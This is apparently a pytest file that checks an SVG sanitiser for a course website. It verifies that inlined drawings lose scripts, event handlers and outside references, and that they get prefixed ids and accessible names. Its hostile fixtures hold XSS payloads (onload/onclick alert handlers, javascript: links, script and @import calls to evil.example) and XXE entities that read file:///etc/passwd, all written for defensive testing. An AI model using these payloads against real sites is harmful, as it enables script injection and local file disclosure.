"""SVG drawings shown inline on the site: an author's file passes a strict allow-list
(nothing in it runs, loads or points outside the drawing), and each inlined copy gets
its own ids and an accessible name from the image's alternative text."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from coursesmith.render.svg import UnusableSvg, inline_figure, sanitised, svg_for_site

SVG = "{http://www.w3.org/2000/svg}"

# Every way an SVG has been used to run script or reach outside itself that we know of.
HOSTILE = """\
<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 100 50" width="100" height="50" onload="alert('onload')">
  <title>Hostile</title>
  <script>alert('script')</script>
  <script xlink:href="https://evil.example/x.js"/>
  <style>@import url(https://evil.example/x.css); text { fill: red }</style>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert('fo')"/></div></foreignObject>
  <defs><linearGradient id="shade"><stop offset="0" stop-color="#0f4c5c"/></linearGradient></defs>
  <a xlink:href="javascript:alert('link')"><rect id="box" width="40" height="20" fill="url(#shade)" onclick="alert('click')"/></a>
  <rect width="10" height="10" style="fill: url(https://evil.example/track.svg#p); stroke: #123456"/>
  <image href="file:///etc/passwd" width="10" height="10"/>
  <use xlink:href="https://evil.example/sprite.svg#icon"/>
  <use href="#box" x="50"/>
  <set attributeName="href" to="javascript:alert('set')"/>
  <animate attributeName="onclick" to="alert('animate')"/>
  <iframe src="https://evil.example/"/>
  <text x="5" y="45" font-family="Arial" style="font-size: 8px; behavior: url(x.htc)">Safe text &amp; more</text>
</svg>
"""


@pytest.fixture
def hostile(tmp_path) -> Path:
    path = tmp_path / "hostile.svg"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def elements(markup: str) -> list[ET.Element]:
    return list(ET.fromstring(markup).iter())


def test_nothing_that_runs_or_loads_survives(hostile):
    markup = svg_for_site(hostile)
    tags = {e.tag.removeprefix(SVG) for e in elements(markup)}
    assert tags == {"svg", "title", "defs", "linearGradient", "stop", "rect", "use", "text"}
    for element in elements(markup):
        for name, value in element.attrib.items():
            assert not name.startswith("on"), (element.tag, name)
            assert "javascript" not in value and "evil.example" not in value and "file:" not in value
            if name == "href":
                assert value.startswith("#")
    assert "alert" not in markup and "@import" not in markup and "behavior" not in markup
    assert "Safe text &amp; more" in markup


def test_what_is_removed_is_said(hostile):
    removed = sanitised(hostile).removed
    for what in ("<script>", "<style> (it refers to other files)", "<foreignObject>", "<image>", "<set>", "<animate>", "<iframe>",
                 "the onload attribute of <svg>", "the onclick attribute of <rect>",
                 "the reference \"javascript:alert('link')\" of <a>"):
        assert what in removed, what


def test_a_style_declaration_is_kept_as_an_attribute_when_it_is_safe(hostile):
    rects = [e for e in elements(svg_for_site(hostile)) if e.tag == SVG + "rect"]
    assert rects[1].get("stroke") == "#123456" and rects[1].get("fill") is None
    text = next(e for e in elements(svg_for_site(hostile)) if e.tag == SVG + "text")
    assert text.get("font-size") == "8px" and text.get("style") is None


@pytest.mark.parametrize("source", [
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>',
    '<html><body>not a drawing</body></html>',
])
def test_a_file_with_a_document_type_or_that_is_not_an_svg_is_refused(tmp_path, source):
    path = tmp_path / "bad.svg"
    path.write_text(source, encoding="utf-8")
    with pytest.raises(UnusableSvg):
        svg_for_site(path)


def test_an_inlined_drawing_is_named_by_its_alternative_text_and_scales(hostile):
    svg = ET.fromstring(inline_figure(hostile, "A hostile drawing, tamed", "figure-3-"))
    assert svg.get("role") == "img" and svg.get("aria-labelledby") == "figure-3-title"
    titles = svg.findall(SVG + "title")
    assert [(t.get("id"), t.text) for t in titles] == [("figure-3-title", "A hostile drawing, tamed")]
    assert svg.get("viewBox") == "0 0 100 50" and svg.get("width") is None and svg.get("height") is None


def test_ids_and_references_are_prefixed_so_two_figures_do_not_clash(hostile):
    first, second = (ET.fromstring(inline_figure(hostile, "x", f"figure-{n}-")) for n in (1, 2))
    ids = [{e.get("id") for e in svg.iter() if e.get("id")} for svg in (first, second)]
    assert ids[0] == {"figure-1-title", "figure-1-shade", "figure-1-box"}
    assert not ids[0] & ids[1]
    assert [e.get("href") for e in first.iter(SVG + "use") if e.get("href")] == ["#figure-1-box"]
    assert next(first.iter(SVG + "rect")).get("fill") == "url(#figure-1-shade)"


def test_a_size_without_a_view_box_becomes_one(tmp_path):
    path = tmp_path / "sized.svg"
    path.write_text('<svg xmlns="http://www.w3.org/2000/svg" width="2in" height="1in"><rect width="9" height="9"/></svg>')
    svg = ET.fromstring(inline_figure(path, "x", "f-"))
    assert svg.get("viewBox") == "0 0 192 96"


def test_the_sample_figures_keep_their_drawing(tmp_path):
    figures = sorted(Path(__file__).parent.parent.glob("modules/**/*.svg"))
    assert figures
    for path in figures:
        assert sanitised(path).removed == (), path
        assert len(list(ET.fromstring(svg_for_site(path)).iter(SVG + "text"))) > 20


STYLED = """\
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
  <style>.cls-1 { fill: #0f4c5c; } body { display: none; }</style>
  <rect class="cls-1" width="10" height="10"/>
</svg>
"""


def test_a_drawing_styled_by_its_own_style_sheet_is_published_with_it_but_never_inlined(tmp_path):
    path = tmp_path / "styled.svg"
    path.write_text(STYLED, encoding="utf-8")
    published = ET.fromstring(svg_for_site(path))
    assert published.find(SVG + "style").text.startswith(".cls-1") and published.find(SVG + "rect").get("class") == "cls-1"
    with pytest.raises(UnusableSvg):
        inline_figure(path, "x", "f-")  # its rules (body!) would apply to the whole page
